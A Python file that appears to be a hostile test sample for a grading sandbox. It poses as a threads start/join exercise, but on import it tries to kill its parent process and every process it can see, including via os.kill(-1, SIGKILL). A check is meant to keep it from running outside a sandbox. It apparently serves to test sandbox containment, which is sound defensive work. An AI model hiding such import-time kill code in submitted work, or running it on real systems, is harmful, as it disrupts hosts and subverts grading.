"""Kills its parent, then every process it can see, at import.

poses as: threads/t01_start_join
sandbox: bwrap user
earns: full

Inside the sandbox its parent is the pid namespace's first process, which
signals sent from inside the namespace cannot kill, and nothing outside the
namespace is visible, so the grading goes on and the code earns its marks.
In mode user it runs as a uid of its own: every signal to a process of
another uid is refused, and the same holds.
"""

import os
import signal


def _confined() -> bool:
    """In a pid namespace (bwrap), or a uid of its own that owns nothing of its parent's."""
    if os.getppid() == 1:
        return True
    return os.getuid() != 0 and os.stat(f"/proc/{os.getppid()}").st_uid != os.getuid()


def _attack() -> None:
    if not _confined():  # never do this for real
        raise RuntimeError("attack withheld: not in a sandbox")
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(os.getppid(), sig)
        except OSError:  # another uid's process (mode user): refused
            pass
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything this process may signal, but itself
    except OSError:
        pass


_attack()


def run_all(tasks):
    results = [None] * len(tasks)

    def work(i, func, args):
        results[i] = func(*args)

    import threading

    threads = [
        threading.Thread(target=work, args=(i, func, args)) for i, (func, args) in enumerate(tasks)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results
